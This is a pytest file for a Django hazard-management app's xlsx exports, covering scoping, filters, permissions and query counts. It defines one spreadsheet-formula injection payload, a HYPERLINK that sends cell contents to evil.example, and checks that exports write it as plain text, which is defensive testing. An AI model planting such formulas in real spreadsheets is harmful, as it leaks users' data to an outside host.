"""Every hazard list exports as xlsx with the page's scope and filters, on the page
(a link keeping the filters) and in the API: inspection records, government
inspections, tip-offs and listed supervision. User text stays text."""

from __future__ import annotations

import datetime
from io import BytesIO

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from hazards.enforcement import services as enforcement
from hazards.inspections import plans
from hazards.models import GovernmentInspection, SupervisionListing, TipOff
from tests.enterprises.test_export_formulas import assert_written_as_text
from tests.hazards.enforcement.world import CONTACT, REPORTER, item, named_tip_off, order
from tests.hazards.inspections.world import plan_fields, start
from tests.hazards.supervision.world import listed

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def content(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith(XLSX)
    return b"".join(response.streaming_content)


def table(response) -> list[dict]:
    return rows_of(content(response))


def rows_of(data: bytes) -> list[dict]:
    sheet = load_workbook(BytesIO(data)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def english(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


# Inspection records ------------------------------------------------------------


@pytest.fixture
def records(cast):
    own = start(cast)
    plan = plans.plan_create(
        actor=cast.other_enterprise, enterprise=cast.other_ent, **plan_fields(title=HOSTILE)
    )
    other = start(cast, plan, actor=cast.other_enterprise, leader=cast.other_enterprise)
    return own, other


def test_inspection_records_export_like_the_page(cast, client_for, records):
    own, other = records
    client = english(client_for(cast.enterprise))
    page = client.get(reverse("hazards:inspections:list"), {"kind": "comprehensive"})
    assert f"{reverse('hazards:inspections:export')}?kind=comprehensive" in page.content.decode()

    rows = table(client.get(reverse("hazards:inspections:export")))

    assert [row["Enterprise"] for row in rows] == [cast.ent.name]
    row = rows[0]
    assert row["Plan"] == own.plan.title
    assert row["Inspected on"].date() == own.inspected_on
    assert row["Led by"] == (cast.enterprise_staff.get_full_name() or "t-enterprise-staff")
    assert row["Status"] == own.get_status_display()
    assert row["Hazards found"] == 0
    assert table(client.get(reverse("hazards:inspections:export"), {"kind": "seasonal"})) == []
    api = table(client.get(reverse("api-inspection-record-export")))
    assert [row["Plan"] for row in api] == [own.plan.title]
    # The other enterprise exports only its own, its hostile plan title as text.
    theirs = client_for(cast.other_enterprise).get(reverse("hazards:inspections:export"))
    data = content(theirs)
    assert cast.ent.name not in {c for r in load_workbook(BytesIO(data)).active.values for c in r}
    assert_written_as_text(data, [HOSTILE])
    assert other.enterprise_id == cast.other_ent.pk


def test_inspection_export_is_refused_to_who_keeps_no_ledger(cast, client_for):
    for url in (reverse("hazards:inspections:export"), reverse("api-inspection-record-export")):
        assert client_for(cast.reviewer).get(url).status_code == 403


def test_the_district_exports_its_enterprises_records_in_constant_queries(
    cast, client_for, records, django_assert_max_num_queries
):
    client = client_for(cast.district)
    with django_assert_max_num_queries(12):
        one = table(client.get(reverse("hazards:inspections:export")))
    for _ in range(3):
        start(cast)
    with django_assert_max_num_queries(12):
        four = table(client.get(reverse("hazards:inspections:export")))
    assert len(one) == 1 and len(four) == 4


# Government inspections ---------------------------------------------------------


@pytest.fixture
def orders(cast):
    ours = order(cast, summary=HOSTILE)
    theirs = enforcement.inspection_record(
        actor=cast.other_district,
        enterprise=cast.other_ent,
        inspected_on=timezone.localdate(),
        inspectors="王五",
        summary="海淀检查。",
        order_number="海应急责改〔2026〕9号",
        order_deadline=timezone.localdate() + datetime.timedelta(days=5),
        items=[item()],
    )
    return ours, theirs


def test_government_inspections_export_like_the_page(cast, client_for, orders):
    ours, theirs = orders
    client = english(client_for(cast.enterprise))
    page = client.get(reverse("hazards:enforcement:inspections"), {"status": "ordered"})
    export = reverse("hazards:enforcement:inspections_export")
    assert f"{export}?status=ordered" in page.content.decode()

    response = client.get(export)
    rows = table(client.get(export))

    assert [row["Order number"] for row in rows] == [ours.order_number]
    row = rows[0]
    assert row["Enterprise"] == cast.ent.name
    assert row["Inspecting office"] == ours.organisation.name
    assert row["Items"] == 2 and row["Open rows"] == 2
    assert row["Rectify by"].date() == ours.order_deadline
    assert row["Overdue"] == "No"
    assert_written_as_text(content(response), [HOSTILE])
    assert table(client.get(export, {"status": "reviewed"})) == []
    api = table(client.get(reverse("api-government-inspection-export"), {"q": "朝应急"}))
    assert [row["Order number"] for row in api] == [ours.order_number]
    # 海淀区 sees only its own order.
    other = table(client_for(cast.other_district).get(export))
    assert [row["Order number"] for row in other] == [theirs.order_number]


def test_the_city_exports_every_order_in_constant_queries(
    cast, client_for, orders, django_assert_max_num_queries
):
    client = client_for(cast.city)
    with django_assert_max_num_queries(12):
        two = table(client.get(reverse("api-government-inspection-export")))
    for number in range(3):
        order(cast, number=f"朝应急责改〔2026〕{number + 10}号")
    with django_assert_max_num_queries(12):
        five = table(client.get(reverse("api-government-inspection-export")))
    assert len(two) == 2 and len(five) == 5
    assert GovernmentInspection.objects.count() == 5


# Tip-offs -----------------------------------------------------------------------


def test_the_receiving_office_exports_its_tip_offs_with_the_reporter(cast, client_for):
    named = named_tip_off(cast)
    TipOff.objects.filter(pk=named.pk).update(content=HOSTILE)
    named_tip_off(cast, actor=cast.district)  # another office's
    client = english(client_for(cast.street))
    page = client.get(reverse("hazards:enforcement:tip_offs"), {"status": "received"})
    export = reverse("hazards:enforcement:tip_offs_export")
    assert f"{export}?status=received" in page.content.decode()

    for response in (client.get(export), client.get(reverse("api-tip-off-export"))):
        data = content(response)
        rows = rows_of(data)
        assert len(rows) == 1
        assert rows[0]["Reporter's name"] == REPORTER
        assert rows[0]["Reporter's contact"] == CONTACT
        assert rows[0]["Anonymous"] == "No"
        assert_written_as_text(data, [HOSTILE])
    assert table(client.get(export, {"status": "unfounded"})) == []


def test_tip_off_export_in_constant_queries(cast, client_for, django_assert_max_num_queries):
    client = client_for(cast.street)
    named_tip_off(cast)
    with django_assert_max_num_queries(10):
        assert len(table(client.get(reverse("api-tip-off-export")))) == 1
    for _ in range(3):
        named_tip_off(cast)
    with django_assert_max_num_queries(10):
        assert len(table(client.get(reverse("api-tip-off-export")))) == 4


# Listed supervision --------------------------------------------------------------


def test_listed_supervision_exports_like_the_page(cast, client_for):
    listing = listed(cast)
    SupervisionListing.objects.filter(pk=listing.pk).update(requirements=HOSTILE)
    client = english(client_for(cast.district))
    page = client.get(reverse("hazards:supervision:list"), {"status": "listed"})
    export = reverse("hazards:supervision:export")
    assert f"{export}?status=listed" in page.content.decode()

    response = client.get(export)
    rows = table(client.get(export))

    assert [row["Number"] for row in rows] == [listing.number]
    row = rows[0]
    assert row["Enterprise"] == cast.ent.name
    assert row["Hazard"] == listing.hazard.number
    assert row["Issued by"] == listing.issuer.name
    assert row["Deadline"].date() == listing.deadline
    assert row["Progress reports"] == 0
    assert_written_as_text(content(response), [HOSTILE])
    assert table(client.get(export, {"status": "closed"})) == []
    enterprise = table(client_for(cast.enterprise).get(reverse("api-hazard-listing-export")))
    assert [row[next(iter(row))] for row in enterprise] == [listing.number]
    # Outside the scope: an empty export, not the other enterprise's listing.
    for who in (cast.other_enterprise, cast.other_district):
        assert table(client_for(who).get(export)) == []
    assert client_for(cast.reviewer).get(export).status_code == 403


def test_listed_supervision_export_in_constant_queries(
    cast, client_for, django_assert_max_num_queries
):
    listed(cast)
    client = client_for(cast.city)
    with django_assert_max_num_queries(10):
        assert len(table(client.get(reverse("hazards:supervision:export")))) == 1
